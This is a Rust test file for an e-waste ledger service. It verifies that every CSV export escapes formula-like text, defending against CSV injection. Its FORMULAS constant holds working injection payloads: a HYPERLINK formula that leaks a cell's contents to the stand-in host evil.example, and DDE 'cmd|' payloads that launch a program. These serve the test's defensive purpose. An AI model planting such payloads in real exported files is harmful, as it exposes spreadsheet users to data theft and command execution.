//! Every CSV the ledger serves keeps what signers wrote as text a spreadsheet will not run
//! (OWASP "CSV Injection", issue 13 item 5). Formula-like strings go in as a recycler's
//! fraction names, a city's name, an actor's organisation and name and a product's brand and
//! model; then every CSV route is read back and parsed: no text cell may start with `=`, `+`,
//! `-`, `@`, tab or carriage return, each hostile fraction name is there with its `'`, and the
//! figures are still numbers.

use crate::support::db_test;
use crate::support::{labelled, setup, Actor, Env, TestDb, GTIN};
use actix_web::http::StatusCode;
use actix_web::test::TestRequest;
use ewaste_ledger::domain::kinds::{Kind, Role};
use serde_json::json;

/// Cells a spreadsheet would run as formulas if written as they are.
const FORMULAS: [&str; 4] = [
    "=HYPERLINK(\"http://evil.example/?x=\"&A1,\"Click\")",
    "@SUM(1+1)|cmd",
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
];

const LOCODE: &str = "DECSV";

/// Reads a CSV route; answers its records after checking status and content type.
async fn csv_of(env: &Env, path: &str) -> Vec<Vec<String>> {
    let (status, body, content_type) = env.call_raw(TestRequest::get().uri(path)).await;
    assert_eq!(status, StatusCode::OK, "{path}");
    assert_eq!(content_type, "text/csv; charset=utf-8", "{path}");
    let body = String::from_utf8(body).expect("utf-8");
    csv::ReaderBuilder::new()
        .has_headers(false)
        .flexible(true)
        .from_reader(body.as_bytes())
        .records()
        .map(|r| r.expect("valid CSV").iter().map(String::from).collect())
        .collect()
}

/// A cell a spreadsheet would read as a formula: one starting with a formula character that
/// is not simply a number (a number such as `-0.003` is a figure, safe and usable).
fn runs_as_formula(cell: &str) -> bool {
    cell.starts_with(['=', '+', '-', '@', '\t', '\r']) && cell.parse::<f64>().is_err()
}

db_test!(
    async fn every_csv_keeps_formula_like_names_as_text(db: TestDb) {
        let env = setup(db).await;
        let admin = env.admin.clone();
        env.ok(
            &admin,
            Kind::CityRegistered,
            None,
            json!({"locode": LOCODE, "name": FORMULAS[0], "country": "DE",
                   "population": 50_000, "population_year": 2023}),
        )
        .await;
        let evil = Actor::new(91, Role::Collector);
        env.ok(
            &admin,
            Kind::ActorRegistered,
            None,
            json!({"actor": evil.id, "org": FORMULAS[1], "name": FORMULAS[2],
                   "roles": ["collector"], "public_key": evil.public_key(), "city": LOCODE}),
        )
        .await;
        let (maker, shop, recycler) = (
            env.actor(Role::Manufacturer),
            env.actor(Role::Retailer),
            env.actor(Role::Recycler),
        );
        let now = crate::support::now_minus_minute();
        let here = (LOCODE, now.as_str());
        let product = labelled("CSV-1");
        env.ok_at(
            &maker,
            Kind::Registered,
            product,
            here,
            json!({"unu_key": "0306", "weight_g": 180, "gtin": GTIN, "serial": "CSV-1",
                   "brand": FORMULAS[3], "model": FORMULAS[0]}),
        )
        .await;
        env.ok_at(&shop, Kind::PlacedOnMarket, product, here, json!({}))
            .await;
        env.ok_at(&evil, Kind::Collected, product, here, json!({}))
            .await;
        env.ok_at(
            &evil,
            Kind::HandedOver,
            product,
            here,
            json!({"to": recycler.id}),
        )
        .await;
        env.ok_at(&recycler, Kind::Received, product, here, json!({}))
            .await;
        let fractions: Vec<_> = FORMULAS
            .iter()
            .enumerate()
            .map(|(i, m)| json!({"material": m, "mass_g": 10 + i as i64}))
            .collect();
        env.ok_at(
            &recycler,
            Kind::Recycled,
            product,
            here,
            json!({"operation": "R4", "fractions": fractions}),
        )
        .await;

        let year = &now[..4];
        let mut routes = vec![format!("/cities.csv?year={year}")];
        for city in [LOCODE, crate::support::CITY] {
            routes.push(format!("/v1/stats/{city}.csv?year={year}"));
            for chart in ["flows", "rates", "materials", "lifespans"] {
                routes.push(format!("/cities/{city}/{chart}.csv?year={year}"));
            }
        }
        let mut numbers = 0;
        for route in &routes {
            for record in csv_of(&env, route).await {
                for cell in &record {
                    assert!(
                        !runs_as_formula(cell),
                        "{route}: the cell {cell:?} runs as a formula"
                    );
                    numbers += usize::from(cell.parse::<f64>().is_ok());
                }
            }
        }
        assert!(numbers > 100, "the figures are still numbers ({numbers})");

        // The hostile names are shown, as text, with their `'`.
        let materials = csv_of(&env, &format!("/cities/{LOCODE}/materials.csv?year={year}")).await;
        for (i, material) in FORMULAS.iter().enumerate() {
            let kg = (10 + i) as f64 / 1000.0;
            assert!(
                materials
                    .iter()
                    .any(|r| r[0] == format!("'{material}") && r[1].parse::<f64>() == Ok(kg)),
                "{material:?} ({kg} kg) in {materials:?}"
            );
        }
        let stats = csv_of(&env, &format!("/v1/stats/{LOCODE}.csv?year={year}")).await;
        assert!(
            stats
                .iter()
                .any(|r| r[4] == format!("fractions_kg.{}", FORMULAS[0]) && r[5] == "0.01"),
            "{stats:?}"
        );
    }
);
